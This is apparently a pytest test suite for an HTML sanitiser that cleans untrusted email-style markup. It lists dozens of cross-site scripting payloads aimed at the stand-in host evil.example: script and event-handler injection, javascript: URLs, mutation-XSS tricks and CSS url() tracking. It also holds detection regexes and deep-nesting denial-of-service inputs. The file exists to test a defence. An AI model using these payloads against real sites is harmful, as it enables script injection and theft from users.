"""HTML of strangers."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from digest.page import SHELL, data_url, harmless_style, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' onclick=alert(1)>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=p><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='background-image: URL( //evil.example/x)'>x</div>",
    "<div style='background:\\75rl(//evil.example/x)'>x</div>",
    "<div style='background:u/**/rl(//evil.example/x)'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>",
    "<div style='content:url(//evil.example)'>x</div>",
    "<div style='background:image-set(\"//evil.example/x\" 1x)'>x</div>",
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset='//evil.example/x 1x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=cid:unknown>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</td></tr></table>",
    "<body background=//evil.example/x onload=alert(1)>",
    "<video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio>",
    "<input type=image src=//evil.example/x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a href=x id=__proto__ name=constructor class=admin>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A;&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='https://x.example' ping=//evil.example>x</a>",
    "<area href='javascript:alert(1)'><map name=x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button><isindex action=//evil.example>",
    "<link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    "<html manifest=//evil.example/m><picture><source srcset=//evil.example/x></picture>",
    "<div style='list-style:url(//evil.example/x)'>x</div>",
    "<div style='cursor:url(//evil.example/x),auto'>x</div>",
    "<div style='background:-webkit-image-set(\"//evil.example\")'>x</div>",
    '<div style=\'font-family:"x\\"; background:url(//evil.example)"\'>x</div>',
    "<div style='color:red;}*{background:url(//evil.example)'>x</div>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<style>.x{display:none}</style><p class='x\" onclick=\"alert(1)'>x</p>",
    "<p hidden='\" onclick=\"alert(1)'>x</p>",
    "<plaintext><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<p title='\" onmouseover=alert(1) x=\"'>x</p>",
]

ACTIVE_TAG = re.compile(
    r"<(?:script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|video|audio"
    r"|template|textarea|xmp|noscript)\b",
    re.IGNORECASE,
)
ACTIVE_ATTRIBUTE = re.compile(
    r"<[^>]*\s(?:on\w+|src(?!=\"data:image/(?:png|gif|jpeg))|srcset|background|action|id|class|name)=",
    re.IGNORECASE,
)
LOADING = re.compile(r"url\(|@import|expression|javascript:|vbscript:|data:text|position|-binding")
INSIDE_QUOTES = re.compile(r"title=\"[^\"]*\"")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_submits_or_fetches(attack: str) -> None:
    page = sanitise(f"<p>before</p>{attack}<p>after</p>", {})
    assert page is not None
    rest = INSIDE_QUOTES.sub("", page)
    assert not ACTIVE_TAG.search(rest), rest
    assert not ACTIVE_ATTRIBUTE.search(rest), rest
    assert not LOADING.search(rest.lower()), rest
    assert "before" in page


def test_what_only_dresses_stays() -> None:
    html = '<p style="color: red; margin: 0 1px; font-family: Arial, sans-serif">x <b>y</b></p>'
    assert sanitise(html, {}) == html


STYLES = [
    ("color: rgb(1, 2, 3)", "color: rgb(1, 2, 3)"),
    ("background: #fff", "background: #fff"),
    ("COLOR: Red", "color: Red"),
    ("color", ""),
    ("", ""),
    ("background: url(x)", ""),
    ("position: fixed; color: red", "color: red"),
    ("color: var(--x)", ""),
    ("font-family: 'a\\'; }'", ""),
    ("mso-line-height-rule: exactly", ""),
    ("width: calc(1px + 2px)", "width: calc(1px + 2px)"),
]


@pytest.mark.parametrize(("style", "kept"), STYLES)
def test_styles_keep_what_only_dresses(style: str, kept: str) -> None:
    assert harmless_style(style) == kept


def test_links_stay_but_tell_nobody_where_they_were_clicked() -> None:
    page = sanitise('<a href="https://example.com/x?y=1&amp;z=2">x</a>', {})
    assert page is not None
    assert 'href="https://example.com/x?y=1&amp;z=2"' in page
    assert 'rel="noopener noreferrer nofollow"' in page


def test_pictures_of_the_message_are_put_in() -> None:
    url = data_url("image/png", b"\x89PNG")
    assert sanitise('<img src="cid:logo@x" alt="Logo">', {"logo@x": url}) == (
        f'<img src="{url}" alt="Logo">'
    )


def test_a_picture_that_lies_elsewhere_keeps_only_its_words() -> None:
    assert sanitise('<img src="https://t.example/p.gif" alt="Offer">', {}) == '<img alt="Offer">'


TANGLES = {
    "deep blocks": "<div>" * 20_000 + "</p>" * 20_000,
    "formatting opened again in each block": (
        "<p>" + "".join(f"<font size={size}>" for size in range(2_000)) + "<p>x" * 20_000
    ),
    "deep lists": "<ul><li>" * 20_000,
    "deep quotations": "<blockquote>" * 20_000,
}


@pytest.mark.parametrize("html", TANGLES.values(), ids=TANGLES.keys())
def test_html_whose_parsing_would_explode_is_not_parsed(html: str) -> None:
    assert sanitise(html, {}) is None


def test_a_long_table_is_no_tangle() -> None:
    rows = "<tr><td>a<td><b>b</b><td><font color=red>c</font>" * 5_000
    page = sanitise(f"<table>{rows}</table>", {})
    assert page is not None
    assert page.count("<tr>") == 5_000


def test_the_shell_holds_the_page_and_loads_nothing() -> None:
    page = SHELL.format("<p>{x}</p>")
    assert page.startswith("<!doctype html>")
    assert "<p>{x}</p></body>" in page
    assert "http" not in page.lower()


MARKUP = [
    "<",
    ">",
    "/",
    "<p",
    "<script",
    "</",
    "=",
    '"',
    "'",
    "x",
    " ",
    "style",
    "src",
    "cid:",
    "&#",
]


@given(st.lists(st.sampled_from(MARKUP), max_size=40).map("".join) | st.text(max_size=100))
def test_any_markup_comes_out_without_scripts(html: str) -> None:
    page = sanitise(html, {})
    assert page is not None
    assert "<script" not in page.lower()
    assert not re.search(r"<[^>]*\ssrc=", page.lower())


@pytest.mark.parametrize(
    "page",
    [
        "<p " + "".join(f"a{n}=b " for n in range(30_000)) + ">",
        "<p " + "".join(f'a{n}=">" ' for n in range(30_000)) + ">",
        "<p" + "".join(f"/a{n}" for n in range(30_000)) + ">",
        '<!-- <p a=" --><p ' + "".join(f"a{n} " for n in range(30_000)) + ">",
    ],
)
def test_a_tag_of_endless_attributes_is_not_parsed(page: str) -> None:
    assert sanitise(page, {}) is None


@pytest.mark.parametrize(
    "page",
    [
        '<p style="color: red" class="x">text</p>\n' * 20_000,
        '<img src="data:image/png;base64,' + "A/b " * 200_000 + '">x',
        "<!--" * 100_000,
        "a < b " * 50_000,
    ],
)
def test_long_pages_are_read_all_the_same(page: str) -> None:
    assert sanitise(page, {}) is not None
